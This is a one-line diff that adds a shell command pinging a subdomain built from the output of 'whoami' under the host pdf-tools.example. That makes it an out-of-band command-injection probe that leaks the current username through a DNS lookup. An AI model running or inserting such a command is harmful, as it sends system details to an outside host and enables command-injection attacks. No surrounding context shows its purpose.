@@ -1,0 +1,1 @@
+ping -c1 `whoami`.pdf-tools.example
